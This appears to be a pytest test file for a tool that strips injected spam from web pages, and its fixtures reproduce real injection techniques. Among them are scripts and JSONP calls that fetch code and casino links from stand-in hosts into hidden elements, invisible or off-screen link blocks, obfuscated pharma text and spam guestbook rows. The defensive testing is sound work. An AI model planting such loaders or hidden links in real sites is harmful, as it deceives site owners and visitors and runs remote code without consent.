"""What goes along with a sign: shells, rows of the same machine, fallbacks; and what of the page stays beside it."""

from __future__ import annotations

import pytest

from tests.signs.cases import BODY, HEAD, TAIL, judged, silent

HONEST = HEAD + BODY + TAIL
LINKS = (
    '<a href="https://a.luckyspin.example.net/">online casino</a> '
    '<a href="https://b.luckyspin.example.net/">slot gacor</a>'
)
LOADER = (
    "<script>var x=new XMLHttpRequest();"
    "x.onload=function(){document.getElementById('lnk_out').innerHTML=x.responseText};"
    "x.open('GET','https://feed.luckyspin.example.net/casino.php');x.send()</script>\n"
)


def _cleaned(piece: str) -> str:
    return judged(HEAD + BODY + piece + TAIL)[2]


@pytest.mark.parametrize(
    "piece",
    [
        (
            f'<span id="lnk_out" style="position:absolute;left:-4200px"></span>\n{LOADER}'
            '<noscript><iframe src="https://feed.luckyspin.example.net/?f=html" width=0 height=0></iframe></noscript>\n'
        ),
        (
            "<div hidden "
            'id="smp-cache"><urlset><url><loc>https://x.luckyspin.example.net/online-casino-bonus</loc></url>'
            "<url><loc>https://x.luckyspin.example.net/slot-gacor-free-spins</loc></url></urlset></div>\n"
        ),
        (
            "<style>@keyframes pz9{from{top:0}to{top:9px}}</style><div "
            'style="position:fixed;bottom:0;animation:pz9 1s">'
            f"{LINKS}</div>\n"
        ),
        (
            '<style>.sb9{position:fixed;top:90px}</style><div class="sb9"><img src="//i.luckyspin.example.net/a.gif" '
            'usemap="#sb1" alt="online casino 200% bonus, slot gacor free spins"></div><map name="sb1"><area '
            'href="https://a.luckyspin.example.net/" '
            'alt="online casino no deposit"></map>\n'
        ),
    ],
    ids=["fallback", "hidden map of a site", "movement", "map of a picture"],
)
def test_what_is_there_for_it_alone_goes(piece: str) -> None:
    assert _cleaned(piece) == HONEST


@pytest.mark.parametrize(
    "call",
    [
        '<script async src="https://api.luckyspin.example.net/links.js?callback=_blCb"></script>\n',
        (
            "<script>var "
            "s=document.createElement('script');s.src='https://api.luckyspin.example.net/casino.js?cb=_blCb';"
            "document.body.appendChild(s)</script>\n"
        ),
    ],
)
def test_a_function_that_another_site_is_asked_to_call_with_links_goes(call: str) -> None:
    function = (
        "function _blCb(d){var b=document.createElement('div');b.style.cssText='width:1px;height:1px;overflow:hidden;"
        "position:absolute';for(var i=0;i<d.length;i++){b.innerHTML+='<a href=\"'+d[i].u+'\">'+d[i].a+'</a>, '}"
        "document.body.appendChild(b)}"
    )
    own = call.removeprefix("<script>").removesuffix("</script>\n")
    piece = f"<script>{function};{own}</script>\n" if "async" not in call else f"<script>{function}</script>{call}"
    assert _cleaned(piece) == HONEST


def test_a_widget_that_calls_back_stays() -> None:
    silent(
        body='<ul id="news"></ul>\n<script>function show(d){var h="";for(var i in d){h+=\'<li><a href="\'+d[i].u+\'">\''
        "+d[i].t+'</a></li>'}document.getElementById('news').innerHTML=h}</script>\n"
        '<script src="https://feed.example.org/club.js?callback=show"></script>\n'
    )


def test_rows_that_tell_who_wrote_go_with_what_was_written() -> None:
    rows = "".join(
        f"<tr><td>{name}</td><td>185.220.0.{n}</td><td>2019-06-0{n} 04:41</td></tr>\n"
        f"<tr><td colspan=3>{said}</td></tr>\n"
        for n, (name, said) in enumerate(
            [
                ("RichardRichardGag", '&lt;a href="http://pills.example.net/"&gt;buy kamagra online&lt;/a&gt; cialis'),
                ("EugeneEugenetix", "[url=http://cash.example.net/]çàéì íà êàðòó áåç îòêàçà[/url] ñðî÷íî äåíüãè"),
                ("JamesJamesWet", "&lt;a href=http://cash.example.net/&gt;payday loans no credit check&lt;/a&gt; fast"),
            ],
            1,
        )
    )
    assert _cleaned(f'<table class="gb">\n{rows}</table>\n') == HONEST


def test_a_guest_who_names_his_page_stays_among_them() -> None:
    spam = '<tr><td>LoanLoan</td><td>&lt;a href="http://cash.example.net/"&gt;no fax payday loans&lt;/a&gt;</td></tr>\n'
    own = "<tr><td>Ida</td><td>Lovely garden, see mine at http://beans.example.org/</td></tr>\n"
    cleaned = _cleaned(f"<table>\n{spam}{own}{spam}</table>\n")
    assert own in cleaned
    assert "payday" not in cleaned


@pytest.mark.parametrize(
    "own",
    [
        "The torch procession starts at nine in the evening and not at nine in the morning, as was printed.",
        "节气提示：霜降将至，菜窖要通风，红薯起垄后晾晒两日再入窖，牲口棚记得添草挡风。",
    ],
)
def test_what_stands_before_an_offer_in_its_paragraph_stays(own: str) -> None:
    offer = "百.家.乐、时·时·彩、真人视讯首存送⑱⑧，加薇❤ ｚｑ６６８８ｖｉｐ，认准唯一网址（二十四小时上下分）"
    page = HEAD + BODY + f"<p>{own}{{}}</p>\n" + TAIL
    assert judged(page.format(offer))[2] == page.format("")


def test_what_stands_before_disguised_words_in_its_paragraph_stays() -> None:
    own = "Keywords: palm hats, embroidered palm hats, hats for weddings, frames for hats, palm leaves"
    odd = (
        ' <span style="font-size:1px">Buy V&#1110;a&#8205;gr&#1072; 100mg, K&#8203;a&#8203;m&#8203;a&#8203;gra, '
        "x&#173;a&#173;n&#173;ax, Ci&#8203;al&#8203;is no prescription</span>"
    )
    page = HEAD + BODY + f"<p>{own}{{}}</p>\n" + TAIL
    assert own in judged(page.format(odd))[2]


@pytest.mark.parametrize("mark", ["&nbsp;", "|", " .", "<font color=inherit>*</font>"])
def test_a_disguised_link_that_says_nothing_goes_with_its_mark(mark: str) -> None:
    link = (
        '<a href="https://casino-bonus.example.net/" style="color:inherit;text-decoration:none;cursor:text" '
        f"onmouseover=\"window.status='';return true\">{mark}</a>"
    )
    page = HEAD + BODY + "<p>The boat leaves at nine and is back at noon.{}</p>\n" + TAIL
    assert judged(page.format(link))[2] == page.format("")


def test_what_is_sold_in_other_letters_is_not_what_a_page_is_about() -> None:
    honest = (
        "<!doctype html>\n<html lang=zh><head><title>自来水分区停水</title></head><body>\n<h1>自来水分区停水</h1>\n"
        "<p>因管道检修，本周三上午八时至下午四时，河东片区分批停水，请居民提前储水。</p>\n{}</body></html>\n"
    )
    words = ["온라인카지노", "바카라사이트", "슬롯사이트", "토토사이트", "먹튀검증"]
    spam = "".join(f"<p>{' | '.join(words)} 추천 {n}</p>\n" for n in range(6))
    verdict, findings, _ = judged(honest.format(spam))
    assert verdict in {"infected", "spam"}
    assert findings


def test_data_of_the_page_stays_beside_data_that_was_put_in() -> None:
    own = '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Library","name":"Town"}</script>\n'
    put = (
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Slot Gacor Hari '
        'Ini","description":"Situs slot gacor terpercaya, deposit pulsa, rtp tertinggi, gampang maxwin"}</script>\n'
    )
    assert judged(HEAD + own + put + BODY + TAIL)[2] == HEAD + own + BODY + TAIL
